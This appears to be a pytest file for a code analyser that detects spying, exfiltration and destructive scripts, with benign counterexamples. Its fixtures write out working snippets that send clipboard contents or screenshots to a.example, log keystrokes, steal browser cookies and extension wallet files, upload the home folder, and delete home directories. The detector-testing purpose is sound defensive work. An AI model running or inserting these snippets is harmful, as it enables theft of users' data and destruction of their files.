"""Code that watches the user, walks through the home, or wipes it: in Python, shell and JavaScript."""

from __future__ import annotations

import pytest

from inkgate.code import Language, analyse
from inkgate.model import Severity

WATCHED = [
    (
        Language.PYTHON,
        "import pyperclip, urllib.request\nurllib.request.urlopen('https://a.example/?v=' + pyperclip.paste())",
    ),
    (Language.PYTHON, "from PIL import ImageGrab\nimport requests\nrequests.post(u, files={'f': ImageGrab.grab()})"),
    (
        Language.PYTHON,
        "import pyautogui, requests, io\nb = io.BytesIO()\npyautogui.screenshot().save(b)\nrequests.post(u, data=b)",
    ),
    (Language.SHELL, "pbpaste | curl -d @- https://a.example"),
    (Language.SHELL, "xclip -o -selection c | nc a.example 80"),
    (Language.SCRIPT, "const t = execSync('pbpaste').toString(); fetch(u, {method: 'POST', body: t})"),
]
WALKED = [
    "import os, requests\nfor root, _, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n"
    "        requests.post(u, files={'f': open(os.path.join(root, f), 'rb')})",
    "from pathlib import Path\nimport httpx\nfor p in Path.home().rglob('*.pdf'):\n"
    "    httpx.post(u, content=p.read_bytes())",
    "import glob, requests\nfor p in glob.glob('/home/*/Documents/**'):\n    requests.post(u, data=open(p).read())",
]
WIPED = [
    (Language.PYTHON, "import shutil, os\nshutil.rmtree(os.path.expanduser('~/Documents'))"),
    (Language.PYTHON, "from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home() / '.gnupg')"),
    (Language.SCRIPT, "require('fs').rmSync(require('os').homedir(), {recursive: true})"),
]


def severities(text: str, language: Language, rule: str) -> list[Severity | None]:
    """Of the findings of a rule."""
    return [item.severity for item in analyse(text, language).findings if item.rule == rule]


@pytest.mark.parametrize(("language", "text"), WATCHED)
def test_what_watches_the_user_and_sends_is_seen(language: Language, text: str) -> None:
    """Clipboard and screen that reach the network are a finding."""
    assert severities(text, language, "script-spies")


def test_listening_to_every_key_is_graver() -> None:
    """A listener for keys and any use of the network block."""
    text = (
        "from pynput import keyboard\nimport requests\nseen = []\ndef on(k):\n    seen.append(str(k))\n"
        "    requests.post(u, json=seen)\nkeyboard.Listener(on_press=on).start()"
    )

    assert severities(text, Language.PYTHON, "script-spies") == [Severity.HIGH]


def test_the_settings_of_extensions_hold_wallets() -> None:
    """What browsers keep for their extensions is a credential, whichever file of it is taken."""
    text = (
        "import glob, os, requests\nfor p in glob.glob(os.path.expanduser('~/.config/*/Local Extension Settings/*')):\n"
        "    requests.post(u, files={'f': open(p, 'rb')})"
    )

    assert severities(text, Language.PYTHON, "script-sends-credentials")


def test_what_a_browser_keeps_is_a_credential() -> None:
    """Cookies that a library takes from a browser's profile are followed as the file itself would be."""
    text = (
        "import browser_cookie3, requests\nrequests.post(u, json={c.name: c.value for c in browser_cookie3.chrome()})"
    )

    assert severities(text, Language.PYTHON, "script-sends-credentials")


@pytest.mark.parametrize("text", WALKED)
def test_files_from_a_walk_through_the_home_are_followed(text: str) -> None:
    """What a walk through the home finds is followed to the call that sends it."""
    assert severities(text, Language.PYTHON, "script-sends-files")


@pytest.mark.parametrize(("language", "text"), WIPED)
def test_folders_that_every_home_has_are_not_a_scripts_to_delete(language: Language, text: str) -> None:
    """Deleting a home or one of its usual folders is destruction."""
    assert severities(text, language, "script-destroys")


@pytest.mark.parametrize(
    ("language", "text"),
    [
        (Language.PYTHON, "import pyperclip\nprint(pyperclip.paste())"),
        (Language.PYTHON, "import pyperclip, requests\npyperclip.copy(requests.get(u).text)"),
        (
            Language.PYTHON,
            "import os, requests\nfor f in os.listdir('build'):\n    requests.post(u, data=open(f).read())",
        ),
        (Language.PYTHON, "import shutil, os\nshutil.rmtree(os.path.expanduser('~/.cache/poems'))"),
        (Language.PYTHON, "import shutil\nshutil.rmtree('build')\nshutil.rmtree('src')"),
        (Language.SHELL, "pbpaste > note.md"),
        (Language.SHELL, "cat note.md | pbcopy\ncurl https://a.example"),
        (Language.SCRIPT, "navigator.clipboard.writeText(text); fetch(u)"),
    ],
)
def test_ordinary_use_of_clipboard_and_folders_is_left_alone(language: Language, text: str) -> None:
    """Copying to the clipboard, listing a project's folder and deleting a cache are nothing."""
    found = {item.rule for item in analyse(text, language).findings}

    assert not found & {"script-spies", "script-sends-files", "script-destroys"}
